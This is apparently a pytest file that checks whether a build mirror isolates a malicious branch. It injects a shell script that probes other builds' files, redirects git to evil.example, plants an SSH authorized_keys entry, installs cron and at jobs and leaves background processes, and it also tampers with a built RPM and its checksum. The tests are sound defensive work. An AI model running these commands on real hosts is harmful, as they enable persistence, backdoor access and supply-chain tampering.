"""A branch whose author means harm: what its build reaches of others, and leaves behind."""

from __future__ import annotations

import json
import subprocess

import pytest
from conftest import PROJECT, get, get_json, latest

# What a stage of `f/evil` tries; each line that it prints is a door that was open.
HARM = r"""
open() { echo "OPEN: $*"; }
for place in /localdisk/loadbuild/builder/master /localdisk/designer/builder/master \
    /localdisk/designer/cache/master /localdisk/publish /localdisk/kept/master \
    /import/streams /var/lib/stx-mirror/builds /var/log/stx-mirror; do
    ls "$place"/* >/dev/null 2>&1 && open "reads $place"
done
for process in /proc/[0-9]*; do
    ls "$process/root/localdisk/loadbuild/builder/master" >/dev/null 2>&1 \
        && open "reads through $process"
done
git config --global url.http://evil.example/.insteadOf git:// || open "no HOME of its own"
for place in /tmp /var/tmp /dev/shm /run/lock /import/mirrors; do
    mkdir -p "$place" 2>/dev/null
    echo evil >"$place/left-by-evil" 2>/dev/null
done
(setsid sh -c 'exec sleep 86399' &)
python3 -c 'import socket; socket.create_connection(("127.0.0.1", 9418), 2)' 2>/dev/null \
    && open "the network"
sudo -n true 2>/dev/null && open "sudo"
echo "* * * * * true" | crontab - 2>/dev/null && open "crontab"
command -v at >/dev/null && echo true | at now 2>/dev/null && open "at"
mkdir -p "$HOME/.ssh" && echo "ssh-ed25519 AAAA evil" >"$HOME/.ssh/authorized_keys"
echo "TRIED ALL"
exit 3
"""

EVIL = {
    "name": "f/evil",
    "replace": [
        {"path": "manifest/default.xml", "from": 'revision="master"', "to": 'revision="f/evil"'},
        {
            "path": "root/build-tools/build-pkgs",
            "from": 'here=$(dirname "$(readlink -f "$0")")',
            "to": HARM,
        },
    ],
}


@pytest.fixture(scope="module")
def log(builder) -> str:
    """The log of the stage that did the harm."""
    subprocess.run(
        [
            str(PROJECT / ".venv/bin/ansible-playbook"),
            *("-i", "inventories/demo", "playbooks/demo.yml", "--tags", "remotes"),
            *("-e", json.dumps({"sample_remotes_branches": [{"name": "master"}, EVIL]})),
        ],
        cwd=PROJECT,
        check=True,
        stdout=subprocess.DEVNULL,
    )
    done = builder.stx_mirror("build", "f/evil", "--reason", "test", check=False)
    assert done.returncode == 1
    ids = [b["id"] for b in get_json("builds.json")["builds"] if "/evil/" in b["id"]]
    with get(f"{max(ids)}/outputs/logs/packages.log") as response:
        return response.read().decode()


def test_a_stage_reaches_nothing_of_another_stream(log):
    assert "TRIED ALL" in log
    assert [line for line in log.splitlines() if line.startswith("OPEN: ")] == []


def test_nothing_of_a_finished_build_is_left_on_the_host(log, builder):
    left = builder.script(
        "find /tmp /var/tmp /dev/shm /run/lock /home/builder /import -name left-by-evil "
        "-o -name authorized_keys -path '/home/builder/*' |\n"
        "grep -v ^/import/streams/f-evil/ || true\n"
        "pgrep -u builder -f 'sleep 86399' || true\n"
        "grep -l evil.example /home/builder/.gitconfig || true"
    )
    assert left == ""


def test_the_next_build_of_another_stream_takes_its_own_sources(log, builder):
    before = latest()["id"]
    builder.stx_mirror("build", "master", "--force", "--reason", "after evil")
    after = latest()
    assert after["id"] > before
    assert after["changes"] == []


def test_what_lies_in_a_workspace_is_never_taken_over(builder):
    """An RPM and its digest, exchanged in the workspace of the last good build."""
    good = latest()["id"]
    workspace = f"/localdisk/loadbuild/builder/master/{good.rpartition('/')[2]}"
    builder.script(
        f"cd {workspace}/std/results/*/sample-tuned-*\n"
        "rpm=$(ls *.x86_64.rpm *.noarch.rpm 2>/dev/null | head -n 1)\n"
        'old=$(sha256sum "$rpm" | cut -d " " -f 1)\n'
        'echo evil >>"$rpm"\n'
        'sed -i "s/$old/$(sha256sum "$rpm" | cut -d " " -f 1)/" result.json'
    )
    builder.stx_mirror("build", "master", "--force", "--reason", "after the exchange")
    record = latest()
    assert record["packages"]["built"] == 0

    def sums(build_id: str) -> set[str]:
        with get(f"{build_id}/SHA256SUMS") as response:
            lines = response.read().decode().split("\n")
        return {line for line in lines if line.endswith(".rpm")}

    assert sums(record["id"]) == sums(good)
